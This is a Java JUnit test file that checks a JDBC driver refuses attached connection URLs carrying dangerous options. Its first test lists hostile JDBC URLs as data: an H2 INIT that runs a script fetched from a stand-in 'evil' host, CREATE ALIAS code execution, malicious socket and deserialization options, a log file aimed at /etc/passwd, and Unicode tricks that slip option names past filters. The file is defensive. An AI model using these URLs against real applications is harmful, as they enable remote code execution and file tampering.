package org.personalizejdbc.inventory;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.sql.DriverManager;
import java.sql.SQLException;
import java.util.stream.Stream;
import org.apache.calcite.avatica.BuiltInConnectionProperty;
import org.apache.calcite.avatica.ConnectionProperty;
import org.apache.calcite.config.CalciteConnectionProperty;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What an attachment's URL may not do. */
class RiskyOptionsTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x; init = CREATE ALIAS",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3",
        // What H2 reads as INIT and TRACE_LEVEL_FILE, too.
        "jdbc:h2:mem:x;I\\NIT=CREATE ALIAS",
        "jdbc:h2:mem:x;\\INIT=CREATE ALIAS",
        "jdbc:h2:mem:x;\u0131NIT=CREATE ALIAS",
        "jdbc:h2:mem:x;TRACE_LEVEL_\ufb01LE=3",
        "jdbc:postgresql://h/d?a=b&socketFactory=org.evil.Factory",
        "jdbc:postgresql://h/d?SSLFACTORY=org.evil.Factory",
        "jdbc:postgresql://h/d?loggerFile=/etc/passwd",
        "jdbc:postgresql://h/d?%73ocketFactory=org.evil.Factory",
        "jdbc:mysql://h/d?autoDeserialize=true",
        "jdbc:mysql://(host=h,queryInterceptors=org.evil.X)/d",
        "jdbc:duckdb:;session_init_sql_file=/tmp/x",
        "jdbc:sqlite::memory:?enable_load_extension=true",
        "jdbc:derby:x;createFrom=/tmp/y",
        "jdbc:calcite:model=inline:{}",
        "jdbc:calcite:schemaType=JDBC;schema.jdbcDriver=org.evil.X;schema.jdbcUrl=jdbc:x:",
        "jdbc:avatica:remote:url=http://h;httpclient_factory=org.evil.X",
      })
  void anOptionThatCanRunCodeIsRefusedByName(String url) {
    String connect = "jdbc:personalize:endpoint=embedded;attach.inv=\"" + url + "\"";
    assertThatThrownBy(() -> DriverManager.getConnection(connect))
        .isInstanceOfSatisfying(
            SQLException.class, e -> assertThat(e.getSQLState()).isEqualTo("08001"))
        .hasMessageContainingAll("attach.inv", "is refused", "Take it out of the URL");
  }

  /** Calcite may be on the class path, beside the lean jar, in any version. */
  @Test
  void everyPropertyOfCalciteThatLoadsAClassIsRefused() {
    assertThat(
            Stream.<ConnectionProperty>concat(
                    Stream.of(CalciteConnectionProperty.values()),
                    Stream.of(BuiltInConnectionProperty.values()))
                .filter(property -> property.type() == ConnectionProperty.Type.PLUGIN)
                .map(ConnectionProperty::camelName))
        .contains("schemaFactory", "lb_strategy")
        .allMatch(name -> RiskyOptions.find("jdbc:calcite:" + name + "=x").isPresent());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:initial;DB_CLOSE_DELAY=-1",
        "jdbc:postgresql://model/init?sslmode=verify-full&sslrootcert=/etc/ca.pem",
        "jdbc:hsqldb:mem:x;ifexists=true",
        "jdbc:sqlserver://h;databaseName=init",
      })
  void ordinaryOptionsAreTaken(String url) {
    assertThat(InventorySource.of(url, null, null, null, null)).isInstanceOf(JdbcInventory.class);
  }

  @Test
  void aSystemPropertyTurnsAttachmentsAndFilesOff() throws SQLException {
    System.setProperty("personalizejdbc.attachments", "off");
    try {
      assertThatThrownBy(
              () ->
                  DriverManager.getConnection(
                      "jdbc:personalize:endpoint=embedded;attach.inv=src/test"))
          .hasMessageContainingAll("attach.inv", "personalizejdbc.attachments=off");
      assertThatThrownBy(
              () -> DriverManager.getConnection("jdbc:personalize:endpoint=embedded:pom.xml"))
          .isInstanceOfSatisfying(
              SQLException.class, e -> assertThat(e.getSQLState()).isEqualTo("08001"))
          .hasMessageContainingAll("endpoint", "personalizejdbc.attachments=off");
      DriverManager.getConnection("jdbc:personalize:endpoint=embedded").close();
    } finally {
      System.clearProperty("personalizejdbc.attachments");
    }
  }
}
